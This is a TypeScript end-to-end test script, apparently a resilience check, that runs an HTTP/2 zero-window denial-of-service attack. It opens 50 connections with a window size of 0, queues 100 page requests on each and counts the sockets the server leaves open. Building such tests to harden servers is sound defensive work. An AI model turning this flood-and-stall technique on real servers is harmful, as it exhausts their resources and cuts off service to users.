// Asks for 5,000 pages on 50 connections of HTTP/2 whose windows are closed, so that no answer
// can leave: `npm exec -- node e2e/src/attacks/windows.ts`.
import { setTimeout as wait } from "node:timers/promises";
import { attack } from "./attack.ts";
import { connectTo } from "./connect-to.ts";
import { frame, get, PREFACE } from "./frames.ts";

/** SETTINGS_INITIAL_WINDOW_SIZE of 0 (RFC 9113 section 6.5.2). */
const NO_WINDOW = frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));

await attack("closed windows", async (target) => {
  const sockets = await Promise.all(
    Array.from({ length: 50 }, () => connectTo(target, Buffer.concat([PREFACE, NO_WINDOW]))),
  );
  const pages = Array.from({ length: 100 }, (_, i) => get(1 + 2 * i));
  for (const socket of sockets) socket.write(Buffer.concat(pages));
  await wait(25_000);
  const open = sockets.filter((socket) => !socket.closed).length;
  for (const socket of sockets) socket.destroy();
  return { open };
});
